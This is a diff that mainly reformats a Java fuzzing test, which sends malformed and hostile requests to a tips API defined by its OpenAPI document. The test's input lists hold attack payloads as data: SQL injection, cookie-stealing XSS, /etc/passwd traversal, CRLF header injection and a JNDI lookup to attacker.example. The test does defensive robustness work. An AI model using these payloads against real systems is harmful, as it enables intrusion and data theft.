@@ -63,6 +63,7 @@ class BadInputCampaignTest {
     private static final long SEED = Long.getLong("campaign.seed", 20260730L);
     /** At least this many requests in one run, spread over the operations. */
     private static final int MIN_REQUESTS = 6000;
+
     private static final int MIN_PER_OPERATION = 100;
     private static final int THREADS = 4;
 
@@ -86,30 +87,83 @@ class BadInputCampaignTest {
     private static final String DEEP_OBJECT = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
 
     private static final List<String> HOSTILE_STRINGS = List.of(
-            "", " ", "x".repeat(70_000), "ự".repeat(5_000), "0", "-1", "1.5", "1e309", "NaN", "99999999999999999999999999",
-            "-9223372036854775809", "true", "null", "[]", "{}",
-            "' OR '1'='1", "1; DROP TABLE tip; --", "\" OR 1=1 -- ", "') UNION SELECT password FROM users --",
-            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
-            "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd%00.jpg",
-            "\u0000", "\r\nX-Injected: 1", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%s%s%n",
-            "\uD83D\uDE00".repeat(300), "\uD800", "\u202Eabc", "ﬃ", "2026-02-30", "9999-12-31T23:59:59Z",
-            "+84 912 345 678", "lừa đảo", "A".repeat(300));
+            "",
+            " ",
+            "x".repeat(70_000),
+            "ự".repeat(5_000),
+            "0",
+            "-1",
+            "1.5",
+            "1e309",
+            "NaN",
+            "99999999999999999999999999",
+            "-9223372036854775809",
+            "true",
+            "null",
+            "[]",
+            "{}",
+            "' OR '1'='1",
+            "1; DROP TABLE tip; --",
+            "\" OR 1=1 -- ",
+            "') UNION SELECT password FROM users --",
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(document.cookie)>",
+            "javascript:alert(1)",
+            "../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+            "/etc/passwd%00.jpg",
+            "\u0000",
+            "\r\nX-Injected: 1",
+            "${jndi:ldap://attacker.example/a}",
+            "{{7*7}}",
+            "%s%s%s%n",
+            "\uD83D\uDE00".repeat(300),
+            "\uD800",
+            "\u202Eabc",
+            "ﬃ",
+            "2026-02-30",
+            "9999-12-31T23:59:59Z",
+            "+84 912 345 678",
+            "lừa đảo",
+            "A".repeat(300));
 
     /** Hostile values for path and query segments that are sent as they are (already URL-encoded). */
     private static final List<String> RAW_SEGMENTS = List.of(
-            "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e", "%00", "%ff%fe",
-            "%c0%ae%c0%ae%2f", "%e2%82", "%", "%zz", "..;/..;/", "a%0d%0aX-Injected:%201", "%u002e%u002e");
+            "../../etc/passwd",
+            "..%2f..%2fetc%2fpasswd",
+            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+            "%2e%2e",
+            "%00",
+            "%ff%fe",
+            "%c0%ae%c0%ae%2f",
+            "%e2%82",
+            "%",
+            "%zz",
+            "..;/..;/",
+            "a%0d%0aX-Injected:%201",
+            "%u002e%u002e");
 
-    private static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "application/xml",
-            "application/x-www-form-urlencoded", "multipart/form-data", "application/json; charset=ISO-8859-1",
-            "@@@/;;;", "application/octet-stream", "image/png", "application/problem+json", "");
+    private static final List<String> WRONG_CONTENT_TYPES = List.of(
+            "text/plain",
+            "application/xml",
+            "application/x-www-form-urlencoded",
+            "multipart/form-data",
+            "application/json; charset=ISO-8859-1",
+            "@@@/;;;",
+            "application/octet-stream",
+            "image/png",
+            "application/problem+json",
+            "");
 
     @Inject
     AgroalDataSource dataSource;
 
     private final Random random = new Random(SEED);
-    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
-            .connectTimeout(Duration.ofSeconds(10)).build();
+    private final HttpClient http = HttpClient.newBuilder()
+            .version(HttpClient.Version.HTTP_1_1)
+            .connectTimeout(Duration.ofSeconds(10))
+            .build();
     private String base;
     private JsonNode document;
     private final List<String> roles = allRoles();
@@ -121,11 +175,18 @@ class BadInputCampaignTest {
     private final AtomicInteger sent = new AtomicInteger();
     private final Map<Integer, Integer> statuses = new ConcurrentHashMap<>();
 
-    record Param(String name, String in, JsonNode schema, boolean required, String example) {
-    }
+    record Param(String name, String in, JsonNode schema, boolean required, String example) {}
 
-    record Op(String method, String path, List<Param> params, Map<String, JsonNode> bodies, boolean bodyRequired,
-            boolean secured, Set<Integer> documented, Set<Integer> bodiless, List<String> allowedRoles) {
+    record Op(
+            String method,
+            String path,
+            List<Param> params,
+            Map<String, JsonNode> bodies,
+            boolean bodyRequired,
+            boolean secured,
+            Set<Integer> documented,
+            Set<Integer> bodiless,
+            List<String> allowedRoles) {
 
         String id() {
             return method.toUpperCase() + " " + path;
@@ -133,8 +194,7 @@ class BadInputCampaignTest {
     }
 
     /** One generated request. */
-    record Case(Op op, String label, String url, Map<String, String> headers, byte[] body, boolean chunked) {
-    }
+    record Case(Op op, String label, String url, Map<String, String> headers, byte[] body, boolean chunked) {}
 
     @Test
     void noHostileRequestGetsA5xxALeakOrAnUndocumentedAnswer() throws Exception {
@@ -177,23 +237,37 @@ class BadInputCampaignTest {
 
         Map<String, Long> tipRowsAfter = tipRowCounts();
         long seconds = Duration.ofNanos(System.nanoTime() - started).toSeconds();
-        System.out.printf("Bad-input campaign: %d requests over %d operations in %d s (seed %d); answers %s;"
-                + " %d tips and %d tip messages created%n", sent.get(), ops.size(), seconds, SEED, new java.util.TreeMap<>(statuses),
-                tipReferences.size(), messagesCreated.get());
+        System.out.printf(
+                "Bad-input campaign: %d requests over %d operations in %d s (seed %d); answers %s;"
+                        + " %d tips and %d tip messages created%n",
+                sent.get(),
+                ops.size(),
+                seconds,
+                SEED,
+                new java.util.TreeMap<>(statuses),
+                tipReferences.size(),
+                messagesCreated.get());
         assertThat(sent.get()).as("requests sent").isGreaterThanOrEqualTo(5000);
         if (!failures.isEmpty()) {
             List<String> sorted = new ArrayList<>(failures);
             Collections.sort(sorted);
-            java.nio.file.Files.write(Path.of("target", "campaign-failures.txt"),
-                    sorted.stream().map(f -> f.replaceAll("[\\uD800-\\uDFFF]", "?")).toList(), StandardCharsets.UTF_8);
-            throw new AssertionError(failures.size() + " campaign failures (seed " + SEED + ", rerun with -Dcampaign.seed="
-                    + SEED + "):\n" + String.join("\n", sorted.subList(0, Math.min(80, sorted.size()))));
+            java.nio.file.Files.write(
+                    Path.of("target", "campaign-failures.txt"),
+                    sorted.stream()
+                            .map(f -> f.replaceAll("[\\uD800-\\uDFFF]", "?"))
+                            .toList(),
+                    StandardCharsets.UTF_8);
+            throw new AssertionError(failures.size() + " campaign failures (seed " + SEED
+                    + ", rerun with -Dcampaign.seed=" + SEED + "):\n"
+                    + String.join("\n", sorted.subList(0, Math.min(80, sorted.size()))));
         }
         // A rejected tip request leaves nothing behind: every new tip row was answered 201.
         assertThat(tipRowsAfter.get("tip") - tipRowsBefore.get("tip"))
-                .as("new tips = distinct references answered 201 (seed %d)", SEED).isEqualTo(tipReferences.size());
+                .as("new tips = distinct references answered 201 (seed %d)", SEED)
+                .isEqualTo(tipReferences.size());
         assertThat(tipRowsAfter.get("tip_message") - tipRowsBefore.get("tip_message"))
-                .as("new tip messages = messages answered 201 (seed %d)", SEED).isEqualTo(messagesCreated.get());
+                .as("new tip messages = messages answered 201 (seed %d)", SEED)
+                .isEqualTo(messagesCreated.get());
         assertThat(tipRowsAfter.get("orphans")).as("tip rows without their tip").isZero();
     }
 
@@ -201,43 +275,61 @@ class BadInputCampaignTest {
 
     private List<Op> operations() {
         List<Op> ops = new ArrayList<>();
-        document.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(entry -> {
-            String method = entry.getKey();
-            if (!Set.of("get", "post", "put", "delete", "patch").contains(method)) {
-                return;
-            }
-            JsonNode op = entry.getValue();
-            List<Param> params = new ArrayList<>();
-            for (JsonNode p : iterable(path.getValue().path("parameters"))) {
-                params.add(param(p));
-            }
-            for (JsonNode p : iterable(op.path("parameters"))) {
-                params.add(param(p));
-            }
-            Map<String, JsonNode> bodies = new LinkedHashMap<>();
-            op.path("requestBody").path("content").fields().forEachRemaining(c -> bodies.put(c.getKey(), c.getValue()));
-            Set<Integer> documented = new LinkedHashSet<>();
-            Set<Integer> bodiless = new LinkedHashSet<>();
-            op.path("responses").fields().forEachRemaining(response -> {
-                if (response.getKey().matches("\\d{3}")) {
-                    documented.add(Integer.parseInt(response.getKey()));
-                    if (!response.getValue().has("content")) {
-                        bodiless.add(Integer.parseInt(response.getKey()));
+        document.path("paths")
+                .fields()
+                .forEachRemaining(path -> path.getValue().fields().forEachRemaining(entry -> {
+                    String method = entry.getKey();
+                    if (!Set.of("get", "post", "put", "delete", "patch").contains(method)) {
+                        return;
                     }
-                }
-            });
-            boolean secured = op.path("security").size() > 0 || (!op.has("security") && document.path("security").size() > 0);
-            ops.add(new Op(method, path.getKey(), params, bodies, op.path("requestBody").path("required").asBoolean(false),
-                    secured, documented, bodiless, List.of()));
-        }));
+                    JsonNode op = entry.getValue();
+                    List<Param> params = new ArrayList<>();
+                    for (JsonNode p : iterable(path.getValue().path("parameters"))) {
+                        params.add(param(p));
+                    }
+                    for (JsonNode p : iterable(op.path("parameters"))) {
+                        params.add(param(p));
+                    }
+                    Map<String, JsonNode> bodies = new LinkedHashMap<>();
+                    op.path("requestBody")
+                            .path("content")
+                            .fields()
+                            .forEachRemaining(c -> bodies.put(c.getKey(), c.getValue()));
+                    Set<Integer> documented = new LinkedHashSet<>();
+                    Set<Integer> bodiless = new LinkedHashSet<>();
+                    op.path("responses").fields().forEachRemaining(response -> {
+                        if (response.getKey().matches("\\d{3}")) {
+                            documented.add(Integer.parseInt(response.getKey()));
+                            if (!response.getValue().has("content")) {
+                                bodiless.add(Integer.parseInt(response.getKey()));
+                            }
+                        }
+                    });
+                    boolean secured = op.path("security").size() > 0
+                            || (!op.has("security") && document.path("security").size() > 0);
+                    ops.add(new Op(
+                            method,
+                            path.getKey(),
+                            params,
+                            bodies,
+                            op.path("requestBody").path("required").asBoolean(false),
+                            secured,
+                            documented,
+                            bodiless,
+                            List.of()));
+                }));
         return ops;
     }
 
     private Param param(JsonNode p) {
         JsonNode resolved = resolve(p);
         String example = resolved.has("example") ? resolved.get("example").asText() : null;
-        return new Param(resolved.path("name").asText(), resolved.path("in").asText(), resolve(resolved.path("schema")),
-                resolved.path("required").asBoolean(false), example);
+        return new Param(
+                resolved.path("name").asText(),
+                resolved.path("in").asText(),
+                resolve(resolved.path("schema")),
+                resolved.path("required").asBoolean(false),
+                example);
     }
 
     /** The roles that are let through (anything but 403) with otherwise valid input. */
@@ -250,8 +342,16 @@ class BadInputCampaignTest {
                 allowed.add(role);
             }
         }
-        return new Op(op.method(), op.path(), op.params(), op.bodies(), op.bodyRequired(), op.secured(), op.documented(),
-                op.bodiless(), allowed.isEmpty() ? roles : allowed);
+        return new Op(
+                op.method(),
+                op.path(),
+                op.params(),
+                op.bodies(),
+                op.bodyRequired(),
+                op.secured(),
+                op.documented(),
+                op.bodiless(),
+                allowed.isEmpty() ? roles : allowed);
     }
 
     private static List<String> allRoles() {
@@ -316,15 +416,21 @@ class BadInputCampaignTest {
                 cases.add(bodyCase(op, "deep array", type, DEEP_ARRAY.getBytes(StandardCharsets.UTF_8)));
                 cases.add(bodyCase(op, "deep object", type, DEEP_OBJECT.getBytes(StandardCharsets.UTF_8)));
                 cases.add(bodyCase(op, "oversized", type, oversized(1_100_000)));
-                cases.add(new Case(op, "oversized chunked", url(op, Map.of(), Map.of()),
-                        withAuth(op, Map.of("Content-Type", contentTypeHeader(type))), oversized(2_200_000), true));
+                cases.add(new Case(
+                        op,
+                        "oversized chunked",
+                        url(op, Map.of(), Map.of()),
+                        withAuth(op, Map.of("Content-Type", contentTypeHeader(type))),
+                        oversized(2_200_000),
+                        true));
                 cases.add(bodyCase(op, "empty body", type, new byte[0]));
                 for (String top : List.of("null", "[]", "\"text\"", "42", "{", "{\"a\":1,\"a\":2}", "{}")) {
                     cases.add(bodyCase(op, "body " + top, type, top.getBytes(StandardCharsets.UTF_8)));
                 }
             }
         } else if (!op.method().equals("get")) {
-            cases.add(bodyCase(op, "unexpected body", "application/json", "{\"id\":1}".getBytes(StandardCharsets.UTF_8)));
+            cases.add(
+                    bodyCase(op, "unexpected body", "application/json", "{\"id\":1}".getBytes(StandardCharsets.UTF_8)));
         }
         cases.add(headerCase(op, "Accept", "application/xml"));
         cases.add(headerCase(op, "Accept", "text/html;q=abc, */*;q=-1"));
@@ -335,8 +441,13 @@ class BadInputCampaignTest {
         cases.add(headerCase(op, "Authorization", "Bearer not.a.jwt"));
         cases.add(headerCase(op, "Authorization", "Basic YWRtaW46YWRtaW4="));
         cases.add(headerCase(op, "Authorization", "Bearer " + "A".repeat(5000)));
-        cases.add(new Case(op, "unknown query parameter", url(op, Map.of(), Map.of("debug", "true", "__proto__", "x")),
-                validCase(op).headers(), validCase(op).body(), false));
+        cases.add(new Case(
+                op,
+                "unknown query parameter",
+                url(op, Map.of(), Map.of("debug", "true", "__proto__", "x")),
+                validCase(op).headers(),
+                validCase(op).body(),
+                false));
         while (cases.size() < count) {
             cases.add(randomCase(op));
         }
@@ -360,8 +471,10 @@ class BadInputCampaignTest {
         if (op.secured()) {
             return withAuthorization(validCase(op), "no token", null);
         }
-        return headerCase(op, "Accept-Language", hostileString().replaceAll("[\\r\\n\\x00-\\x1f]", "")
-                .replaceAll("[^\\x20-\\x7e]", "?"));
+        return headerCase(
+                op,
+                "Accept-Language",
+                hostileString().replaceAll("[\\r\\n\\x00-\\x1f]", "").replaceAll("[^\\x20-\\x7e]", "?"));
     }
 
     private Case paramCase(Op op, Param p, String value, boolean raw) {
@@ -382,8 +495,13 @@ class BadInputCampaignTest {
                 return headerCase(op, "Cookie", p.name() + "=" + encode(value));
             }
         }
-        return new Case(op, p.in() + " " + p.name() + " = " + abbreviate(value), url(op, pathValues, queryValues), headers,
-                validCase(op).body(), false);
+        return new Case(
+                op,
+                p.in() + " " + p.name() + " = " + abbreviate(value),
+                url(op, pathValues, queryValues),
+                headers,
+                validCase(op).body(),
+                false);
     }
 
     private Case missingParamCase(Op op, Param p) {
@@ -437,13 +555,15 @@ class BadInputCampaignTest {
             List<String[]> paths = new ArrayList<>();
             collectFields(body, "", paths);
             if (paths.isEmpty()) {
-                return bodyCase(op, "hostile body", type, hostileJson().toString().getBytes(StandardCharsets.UTF_8));
+                return bodyCase(
+                        op, "hostile body", type, hostileJson().toString().getBytes(StandardCharsets.UTF_8));
             }
             String[] victim = pick(paths);
             removeAt(body, victim[0]);
             label = "missing field " + victim[0];
         } else if (kind == 1) {
-            String name = pick(List.of("id", "status", "version", "createdAt", "isAdmin", "__proto__", "role", "x".repeat(300)));
+            String name = pick(
+                    List.of("id", "status", "version", "createdAt", "isAdmin", "__proto__", "role", "x".repeat(300)));
             ((ObjectNode) container(body)).set(name, hostileJson());
             label = "extra field " + abbreviate(name);
         } else if (kind == 2) {
@@ -480,19 +600,39 @@ class BadInputCampaignTest {
                 return;
             }
             if (binary) {
-                String name = kind == 1 ? pick(List.of("../../etc/passwd", "<script>.jpg", "a\u0000.pdf", "x".repeat(3000)))
+                String name = kind == 1
+                        ? pick(List.of("../../etc/passwd", "<script>.jpg", "a\u0000.pdf", "x".repeat(3000)))
                         : "photo.jpg";
-                byte[] content = kind == 2 ? oversized(300_000) : pick(List.of(
-                        "not an image".getBytes(StandardCharsets.UTF_8), new byte[0],
-                        new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE1, 0, 8, 'E', 'x', 'i', 'f'},
-                        "%PDF-1.4\n%%EOF".getBytes(StandardCharsets.UTF_8)));
-                part(out, boundary, prop.getKey(), name, pick(List.of("image/jpeg", "application/pdf", "text/html")), content);
+                byte[] content = kind == 2
+                        ? oversized(300_000)
+                        : pick(List.of(
+                                "not an image".getBytes(StandardCharsets.UTF_8),
+                                new byte[0],
+                                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE1, 0, 8, 'E', 'x', 'i', 'f'
+                                },
+                                "%PDF-1.4\n%%EOF".getBytes(StandardCharsets.UTF_8)));
+                part(
+                        out,
+                        boundary,
+                        prop.getKey(),
+                        name,
+                        pick(List.of("image/jpeg", "application/pdf", "text/html")),
+                        content);
                 label.append(" file ").append(abbreviate(name));
             } else {
-                String partType = op.bodies().get(type).path("encoding").path(prop.getKey()).path("contentType").asText("text/plain");
-                String value = kind == 3 ? hostileJson().toString()
-                        : kind == 4 ? DEEP_ARRAY
-                        : partType.contains("json") ? generate(propSchema, 0).toString() : hostileString();
+                String partType = op.bodies()
+                        .get(type)
+                        .path("encoding")
+                        .path(prop.getKey())
+                        .path("contentType")
+                        .asText("text/plain");
+                String value = kind == 3
+                        ? hostileJson().toString()
+                        : kind == 4
+                                ? DEEP_ARRAY
+                                : partType.contains("json")
+                                        ? generate(propSchema, 0).toString()
+                                        : hostileString();
                 part(out, boundary, prop.getKey(), null, partType, value.getBytes(StandardCharsets.UTF_8));
                 label.append(" ").append(prop.getKey()).append("=").append(abbreviate(value));
             }
@@ -503,13 +643,17 @@ class BadInputCampaignTest {
             label.append(" unterminated");
         }
         Map<String, String> headers = new LinkedHashMap<>(validCase(op).headers());
-        headers.put("Content-Type", random.nextInt(8) == 0 ? "multipart/form-data" : "multipart/form-data; boundary=" + boundary);
+        headers.put(
+                "Content-Type",
+                random.nextInt(8) == 0 ? "multipart/form-data" : "multipart/form-data; boundary=" + boundary);
         return new Case(op, label.toString(), url(op, Map.of(), Map.of()), headers, out.toByteArray(), false);
     }
 
-    private static void part(ByteArrayOutputStream out, String boundary, String name, String filename, String type, byte[] content) {
+    private static void part(
+            ByteArrayOutputStream out, String boundary, String name, String filename, String type, byte[] content) {
         String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\""
-                + (filename == null ? "" : "; filename=\"" + filename.replace("\"", "") + "\"") + "\r\nContent-Type: " + type
+                + (filename == null ? "" : "; filename=\"" + filename.replace("\"", "") + "\"") + "\r\nContent-Type: "
+                + type
                 + "\r\n\r\n";
         out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
         out.writeBytes(content);
@@ -527,7 +671,9 @@ class BadInputCampaignTest {
                     value = "campaign-" + Long.toHexString(random.nextLong());
                 }
                 if (value == null) {
-                    value = p.example() != null ? p.example() : generate(p.schema(), 0).asText();
+                    value = p.example() != null
+                            ? p.example()
+                            : generate(p.schema(), 0).asText();
                 }
                 headers.put(p.name(), value);
             }
@@ -543,14 +689,20 @@ class BadInputCampaignTest {
                 if (value == null) {
                     String known = harvestedValue(op, p.name());
                     // never a small example id: a valid path must not reach other tests' rows
-                    value = encode(known != null ? known
-                            : p.schema().path("type").asText().equals("integer") ? "987654321987" : exampleOrGenerated(p));
+                    value = encode(
+                            known != null
+                                    ? known
+                                    : p.schema().path("type").asText().equals("integer")
+                                            ? "987654321987"
+                                            : exampleOrGenerated(p));
                 }
                 path = path.replace("{" + p.name() + "}", value);
             }
         }
         StringBuilder query = new StringBuilder();
-        queryValues.forEach((name, value) -> query.append(query.length() == 0 ? "?" : "&").append(encode(name)).append('=')
+        queryValues.forEach((name, value) -> query.append(query.length() == 0 ? "?" : "&")
+                .append(encode(name))
+                .append('=')
                 .append(value));
         return base + path + query;
     }
@@ -612,7 +764,9 @@ class BadInputCampaignTest {
                 return generate(schema.get(combinator).get(0), depth + 1);
             }
         }
-        String type = schema.path("type").isArray() ? schema.path("type").get(0).asText() : schema.path("type").asText("object");
+        String type = schema.path("type").isArray()
+                ? schema.path("type").get(0).asText()
+                : schema.path("type").asText("object");
         switch (type) {
             case "string" -> {
                 return switch (schema.path("format").asText()) {
@@ -638,7 +792,9 @@ class BadInputCampaignTest {
             default -> {
                 ObjectNode object = NODES.objectNode();
                 if (depth < 6) {
-                    schema.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), generate(p.getValue(), depth + 1)));
+                    schema.path("properties")
+                            .fields()
+                            .forEachRemaining(p -> object.set(p.getKey(), generate(p.getValue(), depth + 1)));
                 }
                 return object;
             }
@@ -693,9 +849,13 @@ class BadInputCampaignTest {
             replaceAt(body, pick(paths)[0], NODES.textNode(marker));
         }
         byte[] bytes = (paths.isEmpty() ? "\"" + marker + "\"" : body.toString()).getBytes(StandardCharsets.UTF_8);
-        byte[] bad = pick(List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE},
-                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF},
-                new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xE2, (byte) 0x82}));
+        byte[] bad = pick(List.of(
+                new byte[] {(byte) 0xC3, 0x28},
+                new byte[] {(byte) 0xFF, (byte) 0xFE},
+                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+                new byte[] {(byte) 0xC0, (byte) 0xAF},
+                new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
+                new byte[] {(byte) 0xE2, (byte) 0x82}));
         String text = new String(bytes, StandardCharsets.ISO_8859_1);
         int at = text.indexOf(marker);
         ByteArrayOutputStream out = new ByteArrayOutputStream();
@@ -731,7 +891,9 @@ class BadInputCampaignTest {
     private static JsonNode parentOf(JsonNode root, List<String> steps) {
         JsonNode node = root;
         for (String step : steps.subList(0, steps.size() - 1)) {
-            node = step.startsWith("[") ? node.get(Integer.parseInt(step.substring(1, step.length() - 1))) : node.get(step);
+            node = step.startsWith("[")
+                    ? node.get(Integer.parseInt(step.substring(1, step.length() - 1)))
+                    : node.get(step);
         }
         return node;
     }
@@ -790,11 +952,14 @@ class BadInputCampaignTest {
     private HttpResponse<byte[]> execute(Case c) {
         HttpRequest request;
         try {
-            HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(c.url())).timeout(Duration.ofSeconds(60));
+            HttpRequest.Builder builder =
+                    HttpRequest.newBuilder(URI.create(c.url())).timeout(Duration.ofSeconds(60));
             c.headers().forEach(builder::header);
-            HttpRequest.BodyPublisher publisher = c.body() == null ? HttpRequest.BodyPublishers.noBody()
-                    : c.chunked() ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(c.body()))
-                    : HttpRequest.BodyPublishers.ofByteArray(c.body());
+            HttpRequest.BodyPublisher publisher = c.body() == null
+                    ? HttpRequest.BodyPublishers.noBody()
+                    : c.chunked()
+                            ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(c.body()))
+                            : HttpRequest.BodyPublishers.ofByteArray(c.body());
             request = builder.method(c.op().method().toUpperCase(), publisher).build();
         } catch (IllegalArgumentException e) {
             return null; // not expressible as an HTTP request (the client refuses it); nothing was sent
@@ -881,11 +1046,14 @@ class BadInputCampaignTest {
         if (body == null) {
             return;
         }
-        boolean tipCreated = c.op().method().equals("post") && c.op().path().equals("/api/v1/tips") && response.statusCode() == 201;
+        boolean tipCreated =
+                c.op().method().equals("post") && c.op().path().equals("/api/v1/tips") && response.statusCode() == 201;
         if (tipCreated) {
             tipReferences.add(body.path("reference").asText());
         }
-        if (c.op().method().equals("post") && c.op().path().startsWith("/api/v1/tips/") && c.op().path().endsWith("/messages")
+        if (c.op().method().equals("post")
+                && c.op().path().startsWith("/api/v1/tips/")
+                && c.op().path().endsWith("/messages")
                 && response.statusCode() == 201) {
             // a repeated Idempotency-Key on the same tip answers 201 again without a new message
             String key = c.headers().get("Idempotency-Key");
@@ -896,7 +1064,8 @@ class BadInputCampaignTest {
         if (!c.label().equals("valid") || !body.isObject()) {
             return;
         }
-        Map<String, String> fields = harvested.computeIfAbsent(c.op().path().replaceAll("/\\{[^}]+}.*$", ""), k -> new ConcurrentHashMap<>());
+        Map<String, String> fields = harvested.computeIfAbsent(
+                c.op().path().replaceAll("/\\{[^}]+}.*$", ""), k -> new ConcurrentHashMap<>());
         body.fields().forEachRemaining(f -> {
             if (f.getValue().isValueNode() && !f.getValue().isNull()) {
                 fields.putIfAbsent(f.getKey(), f.getValue().asText());
@@ -910,16 +1079,18 @@ class BadInputCampaignTest {
 
     private Map<String, Long> tipRowCounts() throws SQLException {
         Map<String, Long> counts = new LinkedHashMap<>();
-        try (Connection connection = dataSource.getConnection(); Statement statement = connection.createStatement()) {
+        try (Connection connection = dataSource.getConnection();
+                Statement statement = connection.createStatement()) {
             for (String table : List.of("tip", "tip_message", "tip_attachment", "tip_identifier")) {
                 try (ResultSet rows = statement.executeQuery("SELECT COUNT(*) FROM " + table)) {
                     rows.next();
                     counts.put(table, rows.getLong(1));
                 }
             }
-            try (ResultSet rows = statement.executeQuery("SELECT (SELECT COUNT(*) FROM tip_identifier i WHERE NOT EXISTS"
-                    + " (SELECT 1 FROM tip t WHERE t.id = i.tip_id)) + (SELECT COUNT(*) FROM tip_message m WHERE NOT EXISTS"
-                    + " (SELECT 1 FROM tip t WHERE t.id = m.tip_id))")) {
+            try (ResultSet rows =
+                    statement.executeQuery("SELECT (SELECT COUNT(*) FROM tip_identifier i WHERE NOT EXISTS"
+                            + " (SELECT 1 FROM tip t WHERE t.id = i.tip_id)) + (SELECT COUNT(*) FROM tip_message m WHERE NOT EXISTS"
+                            + " (SELECT 1 FROM tip t WHERE t.id = m.tip_id))")) {
                 rows.next();
                 counts.put("orphans", rows.getLong(1));
             }
@@ -953,7 +1124,12 @@ class BadInputCampaignTest {
         StringBuilder out = new StringBuilder();
         for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
             int c = b & 0xFF;
-            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.'
+            if ((c >= 'a' && c <= 'z')
+                    || (c >= 'A' && c <= 'Z')
+                    || (c >= '0' && c <= '9')
+                    || c == '-'
+                    || c == '_'
+                    || c == '.'
                     || c == '~') {
                 out.append((char) c);
             } else {
@@ -965,7 +1141,11 @@ class BadInputCampaignTest {
 
     /** A raw segment as sent, with only the characters URI syntax forbids encoded. */
     private static String raw(String value) {
-        return value.replace(" ", "%20").replace("\\", "%5C").replace("\"", "%22").replace("<", "%3C").replace(">", "%3E");
+        return value.replace(" ", "%20")
+                .replace("\\", "%5C")
+                .replace("\"", "%22")
+                .replace("<", "%3C")
+                .replace(">", "%3E");
     }
 
     private static String abbreviate(String value) {
